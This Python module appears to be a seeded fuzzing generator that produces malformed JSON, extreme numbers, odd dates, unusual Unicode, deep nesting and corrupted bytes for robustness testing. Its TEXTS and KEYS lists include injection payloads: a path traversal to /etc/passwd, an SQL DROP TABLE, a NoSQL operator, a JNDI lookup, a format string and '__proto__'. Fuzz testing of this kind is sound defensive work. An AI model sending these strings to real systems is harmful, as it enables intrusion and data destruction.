"""Nasty values by chance: pieces of JSON, texts, bytes, and damage to them. The same seed gives the same."""

import json
import string
from collections.abc import Sequence
from random import Random

LARGE = 200_000  # bytes of a long text
DEEPER_THAN_ANY = 5_000

TEXTS = (
    "",
    " ",
    "null",
    "NaN",
    "1e400",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b]0;title\x07",
    "line\r\nbreak\u2028\u2029\u0085\x1c",
    "\ufeff\u202e\u200b",
    "\x7f\x80\x9f",
    "e\u0301\u00e9",
    "👩🏽‍🤝‍👨🏿",
    "田中さん",
    "../../etc/passwd",
    "'; DROP TABLE messages; --",
    '{"$gt": ""}',
    "${jndi:ldap://x/a}",
    "%s%n{0}",
    "\uffff\U0010ffff",
)
KEYS = ("id", "_id", "kafka", "name", "created_at", "metadata", "$set", "a.b", "", "__proto__", "ID", "x")
NUMBERS = (
    b"0",
    b"-0",
    b"-0.0",
    b"1",
    b"1.0",
    b"1e0",
    b"2147483648",
    b"9007199254740993",
    b"9223372036854775807",
    b"9223372036854775808",
    b"-9223372036854775808",
    b"-9223372036854775809",
    b"18446744073709551616",
    b"1e22",
    b"1e308",
    b"1e309",
    b"-1e999",
    b"5e-324",
    b"1e-999",
    b"0.1",
    b"1" * 400,
    b"9" * 5000,
    b"0." + b"3" * 400,
    b"1E+2",
)
INVALID = (
    b"NaN",
    b"-Infinity",
    b"+1",
    b"01",
    b"1.",
    b".5",
    b"0x1",
    b"'a'",
    b"True",
    b"nul",
    b'"\\ud800"',
    b'"\\udc00\\ud800"',
    b'"\\u12"',
    b'"\\x41"',
    b'"\x01"',
    b'"\xff"',
    b'"\xed\xa0\x80"',
    b'"\xc0\xaf"',
    b"[1,]",
    b"{,}",
    b'{"a"}',
    b"// a",
    b"[",
    b'"',
    b"",
)
DATES = (
    "2023-07-15T12:34:56.789Z",
    "2023-07-15t12:34:56z",
    "2023-07-15 12:34:56+0530",
    "2016-12-31T23:59:60Z",
    "2023-07-15T24:00:00Z",
    "2023-07-15T12:34:56,5Z",
    "2023-07-15T12:34:56." + "9" * 60 + "Z",
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59.999999-23:59",
    "0000-00-00T00:00:00Z",
    "+12023-07-15T12:34:56Z",
    "2023-02-30T00:00:00Z",
    "2023-07-15",
    "1689424496",
    "Sat, 15 Jul 2023 12:34:56 GMT",
    "٢٠٢٣-٠٧-١٥T12:34:56Z",
)


class Chance(Random):
    """One input's source of chance."""

    @classmethod
    def of(cls, seed: int, target: str, index: int) -> "Chance":
        return cls(f"{seed}/{target}/{index}")

    def one_in(self, number: int) -> bool:
        return self.randrange(number) == 0

    def text(self) -> str:
        if self.one_in(3):
            return self.choice(TEXTS)
        if self.one_in(300):
            return self.choice("aé\x00") * self.randrange(LARGE)
        limit = self.choice((0x7F, 0x7F, 0xFF, 0xD7FF, 0x10FFFF))
        numbers = (self.randrange(limit) for _ in range(self.randrange(12)))
        return "".join(chr(number) for number in numbers if not 0xD800 <= number < 0xE000)

    def word(self) -> str:
        return "".join(self.choices(string.ascii_letters + string.digits, k=self.randrange(1, 12)))

    def some_bytes(self, longest: int = 40) -> bytes:
        return self.randbytes(self.randrange(longest))

    def json(self, depth: int = 3) -> bytes:
        """A piece of JSON; now and then it is none."""
        kind = self.randrange(12)
        if kind == 0:
            return self.choice(INVALID)
        if kind <= 2:
            return self.choice(NUMBERS)
        if kind == 3:
            return self.choice((b"null", b"true", b"false"))
        if kind == 4 and depth == 3 and self.one_in(6):
            return self._deep()
        if kind <= 6 and depth:
            return b"[" + b",".join(self.json(depth - 1) for _ in range(self.randrange(4))) + b"]"
        if kind <= 8 and depth:
            return self.object([(self.key(), self.json(depth - 1)) for _ in range(self.randrange(4))])
        return self.string(self.choice(DATES) if self.one_in(4) else self.text())

    def key(self) -> bytes:
        return self.string(self.choice(KEYS) if self.one_in(2) else self.text())

    def string(self, text: str) -> bytes:
        """As different programs write it."""
        return json.dumps(text, ensure_ascii=self.one_in(2)).encode()

    def object(self, fields: Sequence[tuple[bytes, bytes]]) -> bytes:
        """Now and then with a field twice, or with other blanks."""
        pairs = [*fields, self.choice(fields)] if fields and self.one_in(10) else list(fields)
        between = self.choice((b",", b",", b", ", b" \t,\r\n"))
        return b"{" + between.join(name + b":" + value for name, value in pairs) + b"}"

    def damaged(self, content: bytes) -> bytes:
        """A few bytes of it changed, gone, doubled or moved."""
        for _ in range(self.randrange(1, 4)):
            begin = self.randrange(len(content) + 1)
            end = min(len(content), begin + self.choice((0, 1, 1, 2, 8, 64)))
            part = self.choice(
                (b"", self.some_bytes(4), content[begin:end] * 2, bytes((self.randrange(256),)), b'"', b"}")
            )
            content = content[:begin] + part + content[end:]
        return content

    def _deep(self) -> bytes:
        levels = self.choice((50, 97, 98, 99, 100, 101, 500, DEEPER_THAN_ANY))
        opening, closing = self.choice(((b"[", b"]"), (b'{"a":', b"}"), (b'[{"a":', b"}]")))
        return opening * levels + b"1" + closing * (levels if self.one_in(2) else 0)
